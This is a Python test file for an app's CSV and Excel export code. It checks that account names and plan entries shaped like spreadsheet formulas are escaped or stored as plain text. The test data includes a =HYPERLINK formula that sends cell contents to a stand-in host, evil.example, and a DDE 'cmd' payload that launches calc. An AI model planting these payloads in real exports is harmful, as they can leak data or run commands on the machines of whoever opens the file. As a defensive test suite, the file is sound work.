"""Exports cannot carry formulas: a name typed as ``=HYPERLINK(...)`` stays text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from openkam.web.accounts.models import Account
from openkam.web.core.exports import protect_workbook, safe_text
from openkam.web.planning import services

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # an amount stays a number
        ("+3", "+3"),
        ("Acme = good", "Acme = good"),
        ("", ""),
        (None, None),
        (-5, -5),
    ],
)
def test_safe_text(value, expected):
    assert safe_text(value) == expected


def test_protect_workbook_turns_formula_text_into_text():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([EVIL, 3, "plain"])
    assert wb.active["A1"].data_type == "f"  # what openpyxl does on its own
    assert protect_workbook(wb) == 1
    assert wb.active["A1"].data_type == "s" and wb.active["B1"].value == 3


def test_plan_workbook_keeps_a_formula_like_account_name_as_text(programme, login):
    Account.objects.filter(account_id="A1").update(name=EVIL)
    alice = programme["users"]["Alice"]
    plan = services.start_plan(Account.objects.get(account_id="A1"), alice)
    services.add_part(plan, "actions", {"title": "@SUM(1+1)*cmd|' /C calc'!A0"}, alice)
    response = login(programme["users"]["Vera"]).get("/plans/A1/export.xlsx")
    wb = load_workbook(io.BytesIO(response.content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    action = "@SUM(1+1)*cmd|' /C calc'!A0"
    for text in (EVIL, action):
        found = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert found, text
        assert all(c.data_type == "s" for c in found)
    # No cell of the workbook is a formula made of user text.
    assert not [c for c in cells if c.data_type == "f"]


FILES = {
    "accounts": "account_id,name,industry,region\n"
    'E1,"=HYPERLINK(""http://evil.example"",""x"")",food,EMEA\n'
    "E2,-Minus Corp,food,EMEA\n",
    "products": "product_id,name,product_line\nP1,Widget,widgets\n",
    "invoices": "invoice_id,line_no,invoice_date,account_id,product_id,quantity,"
    "unit_list_price,discount_amount,cogs_amount\n"
    "I1,1,2024-03-01,E1,P1,10,12.50,5.00,60.00\n"
    "I2,1,2024-03-01,E2,P1,1,10,0,60.00\n",
}


def test_profitability_csv_keeps_formula_like_names_as_text(
    import_files, recompute_profitability, programme, login
):
    import_files(FILES)
    recompute_profitability()
    response = login(programme["users"]["Vera"]).get(
        "/insights/profitability/?year=2024&format=csv"
    )
    rows = {
        r["account_id"]: r
        for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    }
    assert rows["E1"]["account_name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert rows["E2"]["account_name"] == "'-Minus Corp"
    # Negative amounts are still numbers: E2 loses 50.00.
    assert rows["E2"]["net_contribution"] == "-50.00"


def test_every_export_writes_through_the_helper():
    """A new CSV or Excel export must use core.exports (csv_writer, protect_workbook, or
    safe_cells for a write-only workbook)."""
    from pathlib import Path

    src = Path(__file__).resolve().parents[2] / "src" / "openkam"
    offenders = []
    for path in src.rglob("*.py"):
        if path.name == "exports.py" and path.parent.name == "core":
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(f"{path.relative_to(src)}: csv.writer (use core.exports.csv_writer)")
        if "Workbook(" in text and not ("protect_workbook(" in text or "safe_cells(" in text):
            offenders.append(f"{path.relative_to(src)}: a workbook without protect_workbook()")
    assert offenders == [], "\n".join(offenders)


def test_write_only_sheets_store_formula_like_text_as_text():
    """The allocation's write-only workbook: a name like =HYPERLINK(...) is a text cell."""
    import io

    from openpyxl import Workbook, load_workbook

    from openkam.web.core.exports import safe_cells

    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(safe_cells(sheet, ['=HYPERLINK("http://x","y")', "plain", -12.5]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue()))["s"].iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == '=HYPERLINK("http://x","y")'
